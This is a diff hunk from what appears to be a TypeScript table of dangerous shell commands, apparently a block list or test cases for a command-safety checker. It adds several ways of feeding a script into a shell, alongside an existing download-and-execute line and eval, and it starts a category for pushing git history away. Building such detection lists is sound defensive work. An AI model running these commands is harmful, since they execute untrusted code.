@@ -50,6 +50,11 @@ const dangers: Readonly<Record<string, readonly string[]>> = {
     'curl -O https://x.io/run; chmod +x run; ./run',
     'eval "$CMD"',
     'cat script | bash',
+    'sh < script',
+    'env bash -s < script',
+    'if sh; then :; fi < script',
+    'sh <&3',
+    'echo ls | sh 3< script <&3',
   ],
   'loses history, or sends it away': [
     'git push',
